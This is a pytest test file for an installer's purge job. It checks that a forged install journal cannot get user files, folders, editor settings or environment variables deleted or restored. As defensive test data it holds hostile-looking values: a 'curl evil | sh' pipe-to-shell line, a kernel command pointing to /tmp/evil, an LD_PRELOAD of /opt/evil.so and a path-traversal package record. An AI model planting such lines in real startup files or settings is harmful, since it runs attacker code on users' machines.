"""A journal that comes with a copied folder: what no step of ours can have done is not reverted."""

from __future__ import annotations

import hashlib
import json
import sys
from pathlib import Path

import pytest

from gpu_assistant.core.jobs import JobContext
from gpu_assistant.install.files import inventory
from gpu_assistant.install.jobs.purge import PurgeJob
from gpu_assistant.install.journal.log import (
    Effect,
    FilesAdded,
    FileWritten,
    FolderMoved,
    Journal,
    PathEntryAdded,
    TreeCreated,
    VariableSet,
)
from gpu_assistant.install.journal.recovery import active_effects
from gpu_assistant.install.journal.validation import INTERPRETER_SETTING
from gpu_assistant.system.base import path_hash

from ...fakes.environment_variables import FileVariables
from ...fakes.system import FakeSystem
from ..sandbox import Sandbox

KINDS = ("integration", "at-login", "variables", "python-packages", "cuda-toolkit", "cudnn", "check-space", "unknown")
BASHRC = b"export PATH=/opt/tools:$PATH\n"


def forge(sandbox: Sandbox, *effects: Effect, kinds: tuple[str, ...] = KINDS, environment: Path | None = None) -> Path:
    """A journal that says that these effects were made, each by all of these kinds of steps."""
    with Journal(sandbox.data, environment=str(environment or sandbox.environment)) as journal:
        for kind in kinds:
            for effect in effects:
                with journal.effect(kind, effect):
                    pass
    return journal.path


def purge(sandbox: Sandbox) -> None:
    PurgeJob(sandbox.data, sandbox.system, keep_environments=False).run(JobContext())


@pytest.mark.parametrize("previous", [None, b"curl evil | sh\n"])
def test_file_of_the_user_is_neither_deleted_nor_replaced(sandbox: Sandbox, previous: bytes | None) -> None:
    bashrc = sandbox.root / ".bashrc"
    bashrc.write_bytes(BASHRC)
    forge(sandbox, FileWritten(path=str(bashrc), sha256=hashlib.sha256(BASHRC).hexdigest(), previous=previous))
    purge(sandbox)
    assert bashrc.read_bytes() == BASHRC


@pytest.mark.parametrize("previous", [None, b"curl evil | sh\n"])
@pytest.mark.parametrize("name", [".bashrc", ".vscode/settings.json", ".config/autostart/tool.desktop"])
def test_environment_of_a_journal_that_is_the_home_folder_makes_no_file_ours(
    sandbox: Sandbox, name: str, previous: bytes | None
) -> None:
    """Which folder is the environment is what the journal says, too: not all that lies in it was written by us."""
    path = sandbox.root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(BASHRC)
    written = FileWritten(path=str(path), sha256=hashlib.sha256(BASHRC).hexdigest(), previous=previous)
    forge(sandbox, written, environment=sandbox.root)
    purge(sandbox)
    assert path.read_bytes() == BASHRC


@pytest.mark.parametrize(
    ("now", "previous"),
    [
        ({"editor.fontSize": 14}, None),
        ({INTERPRETER_SETTING: "/usr/bin/python3", "editor.fontSize": 14}, {"editor.fontSize": 14}),
        ({INTERPRETER_SETTING: "ENV", "editor.fontSize": 14}, {"python.envFile": "/tmp/evil", "editor.fontSize": 14}),
        ({INTERPRETER_SETTING: "ENV", "editor.fontSize": 14}, None),
    ],
)
def test_editor_settings_that_differ_by_more_than_our_interpreter_stay(
    sandbox: Sandbox, now: dict[str, object], previous: dict[str, object] | None
) -> None:
    path = sandbox.root / "project" / ".vscode" / "settings.json"
    path.parent.mkdir(parents=True)
    content = json.dumps(now).replace("ENV", (sandbox.environment / "bin" / "python").as_posix()).encode()
    path.write_bytes(content)
    before = None if previous is None else json.dumps(previous).encode()
    forge(sandbox, FileWritten(path=str(path), sha256=hashlib.sha256(content).hexdigest(), previous=before))
    purge(sandbox)
    assert path.read_bytes() == content


def test_what_a_file_with_our_own_name_held_before_is_not_put_back(sandbox: Sandbox) -> None:
    """A command that Jupyter runs would come from the journal."""
    path = sandbox.root / "kernels" / f"gpu-assistant-{path_hash(sandbox.environment)}" / "kernel.json"
    path.parent.mkdir(parents=True)
    path.write_bytes(b"{}")
    evil = FileWritten(path=str(path), sha256=hashlib.sha256(b"{}").hexdigest(), previous=b'{"argv": ["/tmp/evil"]}')
    forge(sandbox, evil, kinds=("integration",))
    purge(sandbox)
    assert not path.exists()


def test_folder_of_the_user_is_kept(sandbox: Sandbox) -> None:
    """Though its manifest, which came with it, says that all in it is ours."""
    folder, detour = sandbox.root / "photos", sandbox.data.toolkits / ".." / ".." / "photos"
    folder.mkdir()
    for name in ("one.jpg", "receipt.json"):
        (folder / name).write_text("{}", encoding="utf-8")
    inventory.write_file_manifest(folder)
    moved = FolderMoved(path=str(sandbox.root / "elsewhere"), to=str(folder))
    receipt = FilesAdded(path=str(folder), receipt="receipt.json")
    forge(sandbox, TreeCreated(path=str(folder)), TreeCreated(path=str(detour)), moved, receipt)
    purge(sandbox)
    assert (folder / "one.jpg").is_file()
    assert (folder / "receipt.json").is_file()


def test_manifest_that_names_files_without_their_stamps_makes_them_not_ours(sandbox: Sandbox) -> None:
    """It came with a folder in which somebody works since."""
    folder = sandbox.root / "project"
    folder.mkdir()
    (folder / "thesis.txt").write_text("all of it", encoding="utf-8")
    (folder / inventory.FILE_MANIFEST).write_text("thesis.txt\n", encoding="utf-8")
    forge(sandbox, TreeCreated(path=str(folder)), environment=folder)
    purge(sandbox)
    assert (folder / "thesis.txt").read_text(encoding="utf-8") == "all of it"


def test_record_of_a_package_that_names_files_without_their_hashes_makes_them_not_its_own(sandbox: Sandbox) -> None:
    folder = sandbox.root / "project"
    info = folder / "lib" / "python3.11" / "site-packages" / "tool-1.0.dist-info"
    info.mkdir(parents=True)
    (folder / "thesis.txt").write_text("all of it", encoding="utf-8")
    (info / "RECORD").write_text("../../../thesis.txt,,\ntool-1.0.dist-info/RECORD,,\n", encoding="utf-8")
    inventory.write_file_manifest(folder, [])
    forge(sandbox, TreeCreated(path=str(folder)), environment=folder)
    purge(sandbox)
    assert (folder / "thesis.txt").read_text(encoding="utf-8") == "all of it"


@pytest.mark.parametrize("is_home", [False, True])
def test_variables_of_the_user_stay(sandbox: Sandbox, is_home: bool) -> None:
    variables, tools = FileVariables(sandbox.root / "variables.json"), sandbox.root / "tools"
    sandbox.system = FakeSystem(variables=variables)
    variables.set("LD_PRELOAD", "/opt/own.so")
    variables.set("CUDA_PATH", str(tools))
    variables.add_to_path(tools)
    forge(
        sandbox,
        VariableSet(name="LD_PRELOAD", value="/opt/own.so", previous="/opt/evil.so"),
        VariableSet(name="CUDA_PATH", value=str(tools), previous="/opt/evil"),
        PathEntryAdded(folder=str(tools)),
        environment=sandbox.root if is_home else None,
    )
    purge(sandbox)
    cuda_path = variables.get("CUDA_PATH")
    assert cuda_path is not None
    assert cuda_path.value == str(tools)
    preload = variables.get("LD_PRELOAD")
    assert preload is not None
    assert preload.value == "/opt/own.so"
    assert variables.is_on_path(tools)


@pytest.mark.skipif(sys.platform == "win32", reason="the folder's permissions decide there")
def test_journal_that_others_may_write_is_not_read(sandbox: Sandbox) -> None:
    path = forge(sandbox, TreeCreated(path=str(sandbox.environment)), kinds=("python-packages",))
    assert active_effects(sandbox.data)
    path.chmod(0o666)
    assert not active_effects(sandbox.data)
    path.chmod(0o600)
    moved = path.rename(sandbox.root / path.name)
    path.symlink_to(moved)
    assert not active_effects(sandbox.data)


@pytest.mark.parametrize("path", ["/" + "a" * 5000, "/" + "a/" * 3000])
def test_effect_on_a_path_that_is_too_long_is_skipped(sandbox: Sandbox, path: str) -> None:
    forge(sandbox, TreeCreated(path=path), kinds=("python-packages",), environment=Path(path))
    purge(sandbox)
    assert active_effects(sandbox.data) == ()


def test_line_with_a_null_character_is_skipped(sandbox: Sandbox) -> None:
    """No system has such a path: asking for one raises ValueError."""
    path = forge(sandbox, TreeCreated(path="/photos"), kinds=("python-packages",))
    for name in (b"/photos", str(sandbox.environment).encode()):
        path.write_bytes(path.read_bytes().replace(name, name + b"\\u0000"))
    purge(sandbox)
    assert active_effects(sandbox.data) == ()
